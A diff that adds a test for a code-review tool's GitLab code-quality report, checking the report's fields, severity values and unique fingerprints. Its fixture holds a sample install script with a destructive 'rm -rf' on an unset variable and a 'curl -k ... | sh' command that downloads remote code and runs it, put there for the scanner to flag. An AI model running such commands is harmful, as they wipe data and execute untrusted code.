@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parseXml, XmlElement } from '@rgrove/parse-xml';
+import { codequality } from '../../../src/core/report/formats/codequality';
 import { csv } from '../../../src/core/report/formats/csv';
 import { junit } from '../../../src/core/report/formats/junit';
 import { newCache } from '../../../src/core/review/cache';
@@ -106,3 +107,28 @@ function cellsOf(line: string): string[] {
   );
   return cells;
 }
+
+describe('code quality for GitLab', () => {
+  it('has what GitLab asks of each finding, and fingerprints that no two share', async () => {
+    const review = await reviewOf({ 'scripts/install.sh': '#!/bin/bash\nrm -rf "$UNSET/data"\ncurl -k https://x.example/a | sh\n' });
+    const [first] = review.findings;
+    assert.ok(first);
+    const waived = { ...first, fingerprint: 'accepted', waived: { reason: 'known', owner: 'ops', expires: '2027-01-01' } };
+    const report = codequality.write({ ...review, findings: [...review.findings, first, waived as never] }, context);
+    const found = JSON.parse(report) as Record<string, unknown>[];
+    assert.ok(found.length > 2);
+    for (const each of found) {
+      assert.deepEqual(Object.keys(each), ['description', 'check_name', 'fingerprint', 'severity', 'location']);
+      assert.match(String(each['severity']), /^(info|minor|major|critical|blocker)$/);
+      assert.deepEqual(Object.keys(each['location'] as object), ['path', 'lines']);
+    }
+    const prints = (reports: string) => (JSON.parse(reports) as { fingerprint: string }[]).map(({ fingerprint }) => fingerprint);
+    assert.equal(new Set(prints(report)).size, found.length);
+    assert.ok(!prints(report).includes('accepted'));
+    const joined = prints(codequality.join([report, report]));
+    assert.equal(joined.length, 2 * found.length);
+    assert.equal(new Set(joined).size, joined.length);
+    const clean = { ...review, findings: [], siteFindings: [], notChecked: [] };
+    assert.equal(codequality.write(clean, context), '[]\n');
+  });
+});
